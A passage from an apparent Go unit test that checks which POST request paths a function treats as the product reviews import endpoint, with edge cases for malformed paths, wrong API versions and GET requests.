		"/api/v1/products/maths/reviews/import?x=1":   true,
		"/api/v1/products//reviews/import":            false,
		"/api/v1/products/a/b/reviews/import":         false,
		"/api/v1/products/maths/reviews":              false,
		"/api/v1/products/maths/reviews/import/extra": false,
		"/api/v1/products/maths/reviews/importer":     false,
		"/api/v2/products/maths/reviews/import":       false,
		"/x/api/v1/products/maths/reviews/import":     false,
	} {
		if got := isImport([]byte("POST"), []byte(uri)); got != want {
			t.Errorf("isImport(POST %s) = %v", uri, got)
		}
	}
	if isImport([]byte("GET"), []byte("/api/v1/products/maths/reviews/import")) {
		t.Error("a GET is not an import")
	}
}
